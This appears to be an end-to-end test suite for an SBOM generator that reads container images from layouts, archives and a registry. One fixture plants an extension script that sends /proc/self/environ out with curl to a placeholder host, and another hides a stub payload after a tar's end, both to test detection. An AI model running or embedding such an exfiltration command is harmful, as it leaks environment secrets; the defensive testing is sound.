/**
 * `lamina sbom IMAGE` end to end: the same image through an OCI layout, a `docker save` archive
 * and the real registry (Debian's docker-registry, started once for the suite) gives the same
 * packages; the SBOM names the image and its layers, is strict-valid CycloneDX and is
 * byte-identical across runs; `--scope all-layers` lists what later layers removed. The registry
 * wants Basic credentials (htpasswd), given with `--registry-auth`.
 *
 * Images: the real Alpine 3.17.2 vector (15 apk packages), and a three-layer Debian image made
 * here by lamina's OCI writer from the committed Debian layers (dpkg, /opt content and
 * whiteouts in the last layer).
 */
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  makeImage,
  makeLayer,
  pushImage,
  pushLayout,
  REF_NAME,
  tarDirectory,
  writeDockerArchive,
  writeLayout,
} from '../../../scripts/lib/ociwriter.mjs';
import {
  startDockerRegistry,
  type RunningRegistry,
} from '../../../src/fetch/registry/testing/docker-registry.js';
import { validateJson, validateXml } from '../../../src/sbom/testing/validate.js';
import { writeTar } from '../../../scripts/lib/tarwriter.mjs';
import { REPO_ROOT, runCli } from '../helpers/cli.js';

const ALPINE = join(REPO_ROOT, 'testdata/images/vectors/notation-go/internal/testdata/oci-layout');
const ALPINE_MANIFEST = 'sha256:19dbd2e48e921426ee8ace4dc892edfb2ecdc1d1a72d5416c83670c30acecef0';
const DEBIAN_LAYERS = join(REPO_ROOT, 'testdata/images/layers/debian');

interface Bom {
  metadata: {
    component: {
      type: string;
      name: string;
      purl?: string;
      hashes?: { alg: string; content: string }[];
      properties?: { name: string; value: string }[];
    };
  };
  components: {
    'bom-ref': string;
    type: string;
    name: string;
    version?: string;
    purl?: string;
    properties?: { name: string; value: string }[];
  }[];
  compositions: { aggregate: string }[];
}

const prop = (c: { properties?: { name: string; value: string }[] }, name: string) =>
  c.properties?.filter((p) => p.name === name).map((p) => p.value) ?? [];

/** Package purls with the layer each came from, sorted: what must agree across the three inputs. */
function packagesOf(bom: Bom): string[] {
  return bom.components
    .filter((c) => c.purl !== undefined && c.type !== 'operating-system')
    .map((c) => `${c.purl} layer=${prop(c, 'lamina:layer-diffid').join(',')}`)
    .sort();
}

/** `lamina sbom`, with the registry's credentials for registry references. */
async function sbom(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  const remote = registry && args.some((a) => a.startsWith(`${registry.host}/`));
  return runCli(['sbom', ...args, ...(remote ? ['--registry-auth', auth] : [])]);
}

let tmp: string;
let cache: string;
let registry: RunningRegistry;
let debianLayout: string;
let debianArchive: string;
let alpineArchive: string;
let debianManifest: string;
let auth: string;
let savedDockerConfig: string | undefined;

beforeAll(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'lamina-e2e-image-'));
  cache = join(tmp, 'cache');
  registry = await startDockerRegistry({ kind: 'htpasswd', users: { puller: 'pull-secret' } });
  auth = join(tmp, 'auth.json');
  writeFileSync(
    auth,
    JSON.stringify({
      auths: { [registry.host]: { auth: Buffer.from('puller:pull-secret').toString('base64') } },
    })
  );
  // Docker's own config must not decide these tests.
  savedDockerConfig = process.env['DOCKER_CONFIG'];
  process.env['DOCKER_CONFIG'] = join(tmp, 'no-docker-config');

  // The Alpine vector carries a docker-save manifest.json too: tarred, it is a docker-archive.
  alpineArchive = join(tmp, 'alpine.docker.tar');
  writeFileSync(alpineArchive, tarDirectory(ALPINE));
  await pushLayout(ALPINE, 'v2', registry.url, 'vectors/alpine', 'v2', {
    headers: registry.pushHeaders('vectors/alpine'),
  });

  // A Lambda-shaped Debian image: dpkg database, /opt content, whiteouts in the top layer.
  const layers = [0, 1, 2].map((i) =>
    makeLayer(readFileSync(join(DEBIAN_LAYERS, `${i}.tar`)), { compression: 'gzip' })
  );
  const image = makeImage({
    layers,
    config: { Env: ['LAMBDA_TASK_ROOT=/var/task'], WorkingDir: '/var/task' },
  });
  debianManifest = image.manifest.descriptor.digest;
  debianLayout = join(tmp, 'debian-oci');
  writeLayout(debianLayout, {
    blobs: new Map([...image.blobs, [debianManifest, image.manifest.bytes]]),
    entries: [{ ...image.manifest.descriptor, annotations: { [REF_NAME]: 'latest' } }],
  });
  debianArchive = join(tmp, 'debian.docker.tar');
  writeDockerArchive(debianArchive, {
    config: image.config.bytes,
    layers: layers.map((l) => l.tar),
    repoTags: ['lamina/debian:latest'],
  });
  await pushImage(
    registry.url,
    'lamina/debian',
    {
      blobs: image.blobs,
      manifests: [
        {
          reference: 'latest',
          mediaType: image.manifest.descriptor.mediaType,
          bytes: image.manifest.bytes,
        },
      ],
    },
    { headers: registry.pushHeaders('lamina/debian') }
  );
}, 120_000);

afterAll(async () => {
  if (savedDockerConfig === undefined) delete process.env['DOCKER_CONFIG'];
  else process.env['DOCKER_CONFIG'] = savedDockerConfig;
  await registry?.stop();
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

describe('lamina sbom IMAGE: one image, three inputs', () => {
  it('the Alpine vector: 15 apk packages, the same through layout, archive and registry', async () => {
    const inputs = [
      `oci:${ALPINE}:v2`,
      `docker-archive:${alpineArchive}`,
      `${registry.host}/vectors/alpine:v2`,
    ];
    const boms: Bom[] = [];
    for (const input of inputs) {
      const r = await sbom([input, '--cache-dir', cache, '--quiet']);
      expect(r.stderr).toBe('');
      expect(r.code).toBe(0);
      expect(await validateJson(r.stdout)).toBeNull();
      boms.push(JSON.parse(r.stdout) as Bom);
    }
    const apk = boms[0]!.components.filter((c) => c.purl?.startsWith('pkg:apk/'));
    expect(apk).toHaveLength(15);
    expect(packagesOf(boms[1]!)).toEqual(packagesOf(boms[0]!));
    expect(packagesOf(boms[2]!)).toEqual(packagesOf(boms[0]!));

    const [layout, archive, remote] = boms.map((b) => b.metadata.component);
    expect(layout!.type).toBe('container');
    expect(layout!.hashes).toEqual([{ alg: 'SHA-256', content: ALPINE_MANIFEST.slice(7) }]);
    expect(layout!.purl).toBe(
      `pkg:oci/oci-layout@sha256%3A${ALPINE_MANIFEST.slice(7)}?arch=amd64&tag=v2`
    );
    expect(remote!.purl).toBe(
      `pkg:oci/alpine@sha256%3A${ALPINE_MANIFEST.slice(7)}?arch=amd64&repository_url=${registry.host}/vectors/alpine&tag=v2`
    );
    // A docker-archive has no manifest: no purl, no manifest hash; config and diffIDs name it.
    expect(archive!.purl).toBeUndefined();
    expect(archive!.hashes ?? []).toEqual([]);
    expect(prop(archive!, 'lamina:image:identity')).toEqual(['config-digest-and-diff-ids']);
    expect(prop(archive!, 'lamina:image:config-digest')).toEqual(
      prop(layout!, 'lamina:image:config-digest')
    );
    expect(prop(archive!, 'lamina:image:layer:000:diff-id')).toEqual(
      prop(layout!, 'lamina:image:layer:000:diff-id')
    );
    expect(prop(layout!, 'lamina:image:platform')).toEqual(['linux/amd64']);

    const os = boms[0]!.components.find((c) => c.type === 'operating-system');
    expect(os).toMatchObject({ name: 'alpine', version: '3.17.2' });
  }, 120_000);

  it('the Debian image: dpkg packages and image parts, the same through the three inputs', async () => {
    const inputs = [
      `oci:${debianLayout}:latest`,
      `docker-archive:${debianArchive}`,
      `${registry.host}/lamina/debian:latest`,
    ];
    const boms: Bom[] = [];
    for (const input of inputs) {
      const r = await sbom([input, '--cache-dir', cache, '--quiet']);
      expect(r.code, r.stderr).toBe(0);
      expect(await validateJson(r.stdout)).toBeNull();
      boms.push(JSON.parse(r.stdout) as Bom);
    }
    const debs = boms[0]!.components.filter((c) => c.purl?.startsWith('pkg:deb/'));
    expect(debs.length).toBeGreaterThan(0);
    for (const d of debs) expect(prop(d, 'lamina:image-part')).toEqual(['os']);
    expect(packagesOf(boms[1]!)).toEqual(packagesOf(boms[0]!));
    expect(packagesOf(boms[2]!)).toEqual(packagesOf(boms[0]!));
    expect(boms[0]!.metadata.component.hashes).toEqual([
      { alg: 'SHA-256', content: debianManifest.slice(7) },
    ]);
    // Every package names its layer by index and diffID.
    const layerProps = boms[0]!.metadata.component.properties ?? [];
    const diffIds = layerProps.filter((p) => /^lamina:image:layer:\d+:diff-id$/.test(p.name));
    expect(diffIds).toHaveLength(3);
    for (const c of boms[0]!.components.filter((x) => x.purl?.startsWith('pkg:'))) {
      const idx = prop(c, 'lamina:layer-index');
      expect(idx).toHaveLength(1);
      expect(prop(c, 'lamina:layer-diffid')).toEqual([
        diffIds.find((p) => p.name === `lamina:image:layer:${idx[0]!.padStart(3, '0')}:diff-id`)
          ?.value,
      ]);
    }
  }, 120_000);

  it('is byte-identical across runs, JSON and XML strict-valid in 1.6 and 1.5', async () => {
    for (const spec of ['1.6', '1.5'] as const) {
      for (const format of ['cyclonedx-json', 'cyclonedx-xml'] as const) {
        const args = [
          `oci:${debianLayout}:latest`,
          '--cache-dir',
          cache,
          '--format',
          format,
          '--spec-version',
          spec,
          '--quiet',
        ];
        const a = await sbom(args);
        const b = await sbom(args);
        expect(a.code).toBe(0);
        expect(a.stdout).toBe(b.stdout);
        if (format === 'cyclonedx-json') expect(await validateJson(a.stdout, spec)).toBeNull();
        else expect(await validateXml(a.stdout, spec)).toBeNull();
      }
    }
  }, 120_000);

  it('--scope all-layers lists what the top layer removed, marked with that layer', async () => {
    const squashed = JSON.parse(
      (await sbom([`oci:${debianLayout}:latest`, '--cache-dir', cache, '--quiet'])).stdout
    ) as Bom;
    const r = await sbom([
      `oci:${debianLayout}:latest`,
      '--cache-dir',
      cache,
      '--scope',
      'all-layers',
      '--quiet',
    ]);
    expect(r.code).toBe(0);
    expect(await validateJson(r.stdout)).toBeNull();
    const all = JSON.parse(r.stdout) as Bom;
    const removed = all.components.filter((c) => prop(c, 'lamina:removed-by-layer').length > 0);
    expect(removed.map((c) => c.name)).toContain('abort-controller');
    for (const c of removed) expect(prop(c, 'lamina:removed-by-layer')).toEqual(['2']);
    expect(squashed.components.map((c) => c.name)).not.toContain('abort-controller');
    expect(prop(all.metadata.component, 'lamina:image:scope')).toEqual(['all-layers']);
  }, 120_000);

  it('an unowned extension in /opt/extensions makes the composition incomplete', async () => {
    const dir = join(tmp, 'with-extension');
    const base = makeLayer(readFileSync(join(DEBIAN_LAYERS, '0.tar')), { compression: 'gzip' });
    const ext = makeLayer(
      writeTar([
        { name: 'opt/', type: 'dir' },
        { name: 'opt/extensions/', type: 'dir' },
        {
          name: 'opt/extensions/agent',
          data: '#!/bin/sh\nexec curl -d @/proc/self/environ x\n',
          mode: 0o755,
        },
      ]),
      { compression: 'gzip' }
    );
    const write = (d: string, layers: (typeof base)[]) => {
      const image = makeImage({ layers });
      writeLayout(d, {
        blobs: new Map([...image.blobs, [image.manifest.descriptor.digest, image.manifest.bytes]]),
        entries: [image.manifest.descriptor],
      });
    };
    write(dir, [base, ext]);
    write(`${dir}-base`, [base]);
    const withExt = JSON.parse((await sbom([dir, '--cache-dir', cache, '--quiet'])).stdout) as Bom;
    const without = JSON.parse(
      (await sbom([`${dir}-base`, '--cache-dir', cache, '--quiet'])).stdout
    ) as Bom;
    expect(without.compositions[0]!.aggregate).toBe('complete');
    expect(withExt.compositions[0]!.aggregate).toBe('incomplete');
    expect(prop(withExt.metadata.component, 'lamina:inventory')).toEqual(['incomplete']);
    const agent = withExt.components.find((c) => c.name === 'agent');
    expect(prop(agent!, 'lamina:lambda:extension')).toEqual(['true']);
    expect(prop(agent!, 'lamina:image-part')).toEqual(['opt']);
    expect(prop(agent!, 'lamina:layer-index')).toEqual(['1']);
  });

  it('says what it read on stderr without --quiet', async () => {
    const r = await sbom([`oci:${ALPINE}:v2`, '--cache-dir', cache, '-o', join(tmp, 'a.json')]);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/: 15 packages and \d+ files in 1 layer; inventory complete\n$/);
    expect(r.stderr).toContain('linux/amd64');
  });
});

describe('lamina sbom IMAGE: refusals', () => {
  it('a registry that wants credentials: exit 3 without them, wrong ones refused', async () => {
    const ref = `${registry.host}/vectors/alpine:v2`;
    const none = await runCli(['sbom', ref, '--cache-dir', cache]);
    expect(none.code).toBe(3);
    expect(none.stderr).toMatch(/\[AUTH_REQUIRED\]\n$/);
    const wrong = join(tmp, 'wrong.json');
    writeFileSync(
      wrong,
      JSON.stringify({
        auths: { [registry.host]: { auth: Buffer.from('puller:nope').toString('base64') } },
      })
    );
    const bad = await runCli(['sbom', ref, '--cache-dir', cache, '--registry-auth', wrong]);
    expect(bad.code).toBe(3);
    expect(bad.stderr).toMatch(/\[AUTH_FAILED\]\n$/);
    expect(bad.stderr).not.toContain('nope');
  });

  it('a --registry-auth file that does not exist: exit 2', async () => {
    const r = await runCli([
      'sbom',
      `${registry.host}/vectors/alpine:v2`,
      '--registry-auth',
      join(tmp, 'missing.json'),
    ]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/\[BAD_CREDENTIALS\]\n$/);
  });

  it('a platform the index does not have: exit 2 listing what exists', async () => {
    const r = await sbom([
      `oci:${join(REPO_ROOT, 'testdata/images/multi-oci')}:multi`,
      '--cache-dir',
      cache,
      '--platform',
      'linux/s390x',
    ]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/\[PLATFORM_NOT_FOUND\]/);
    expect(r.stderr).toContain('linux/arm64');
  });

  it('a layer whose bytes are not its digest: exit 2 with the code, nothing cached', async () => {
    const dir = join(tmp, 'tampered');
    const layer = makeLayer(readFileSync(join(DEBIAN_LAYERS, '0.tar')), { compression: 'gzip' });
    const image = makeImage({ layers: [layer] });
    const blobs = new Map([
      ...image.blobs,
      [image.manifest.descriptor.digest, image.manifest.bytes],
    ]);
    writeLayout(dir, { blobs, entries: [image.manifest.descriptor] });
    // Flip one byte of the stored layer after the layout was written.
    const file = join(dir, 'blobs', 'sha256', layer.descriptor.digest.slice(7));
    const bad = readFileSync(file);
    bad.writeUInt8(bad.readUInt8(bad.length - 10) ^ 0xff, bad.length - 10);
    writeFileSync(file, bad);
    const own = join(tmp, 'cache-tampered');
    const r = await sbom([`oci:${dir}`, '--cache-dir', own]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/\[(DIGEST_MISMATCH|CORRUPT_LAYER)\]/);
    expect(existsSync(join(own, 'sha256', `${layer.diffId.slice(7)}.tar`))).toBe(false);
  });

  it('a layer with bytes after its end-of-archive blocks: exit 2 before any cataloger runs', async () => {
    const dir = join(tmp, 'hostile');
    const tar = writeTar([{ name: 'etc/os-release', data: 'ID=debian\n' }], {
      trailer: writeTar([{ name: 'var/task/hidden.js', data: 'evil()' }]),
    });
    const image = makeImage({ layers: [makeLayer(tar, { compression: 'gzip' })] });
    writeLayout(dir, {
      blobs: new Map([...image.blobs, [image.manifest.descriptor.digest, image.manifest.bytes]]),
      entries: [image.manifest.descriptor],
    });
    const r = await sbom([dir, '--cache-dir', cache]);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/\[DATA_AFTER_END\]\n$/);
  });

  it('an image larger than --max-image-size: exit 2', async () => {
    const r = await sbom([
      `oci:${debianLayout}:latest`,
      '--cache-dir',
      join(tmp, 'cache-small'),
      '--max-image-size',
      '64k',
    ]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/\[LAYER_TOO_LARGE\]/);
  });

  it('image flags with a layer are a usage error', async () => {
    const zip = join(REPO_ROOT, 'testdata/layers/sample-layer.zip');
    const r = await runCli(['sbom', zip, '--platform', 'linux/arm64', '--scope', 'all-layers']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--platform, --scope: only for an IMAGE/);
  });

  it('a bad --scope is a usage error', async () => {
    const r = await sbom([`oci:${ALPINE}:v2`, '--scope', 'some']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--scope must be one of squashed, all-layers/);
  });

  it('plain http to a non-loopback registry is refused unless named insecure', async () => {
    const r = await sbom(['registry.invalid.example/app:1', '--cache-dir', cache]);
    // Refused (https only) or unreachable: never a crash, never exit 0.
    expect([2, 3]).toContain(r.code);
    expect(r.stderr).toMatch(/^lamina: .*\[[A-Z_]+\]\n$/);
  });
});
